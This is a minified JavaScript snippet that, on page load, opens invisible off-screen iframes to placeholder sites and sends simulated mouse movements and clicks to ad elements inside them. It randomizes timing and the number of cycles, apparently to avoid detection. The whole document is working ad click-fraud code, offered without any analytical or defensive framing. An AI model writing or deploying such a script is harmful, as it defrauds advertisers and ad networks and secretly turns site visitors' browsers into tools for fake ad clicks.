!function(d,w){var n=0,max=5+Math.floor(Math.random()*4),pages=["https://blog-garden.example/p/1","https://blog-garden.example/p/2","https://daily-recipes.example/top"];
function mk(u){var f=d.createElement("iframe");f.style.cssText="width:1024px;height:768px;position:fixed;left:-2000px;top:0;opacity:0.001;pointer-events:none";f.src=u;f.onload=function(){setTimeout(function(){tap(f)},4e3+Math.random()*9e3)};d.body.appendChild(f)}
function ev(t,x,y){return new MouseEvent(t,{bubbles:!0,cancelable:!0,view:w,clientX:x,clientY:y,screenX:x+8,screenY:y+90,button:0})}
function tap(f){try{var q=f.contentDocument,a=q.querySelectorAll("ins.adsbygoogle,.ad-slot a,iframe[id^=google_ads]"),s=a[Math.floor(Math.random()*a.length)];if(s){var r=s.getBoundingClientRect(),x=r.left+r.width*Math.random(),y=r.top+r.height*Math.random();["mouseover","mousemove","mousedown","mouseup","click"].forEach(function(t,i){setTimeout(function(){s.dispatchEvent(ev(t,x,y))},i*70+Math.random()*50)})}}catch(e){}
setTimeout(function(){f.remove();++n<max&&mk(pages[n%pages.length])},15e3+Math.random()*2e4)}
w.addEventListener("load",function(){setTimeout(function(){mk(pages[0])},3e3)})}(document,window);
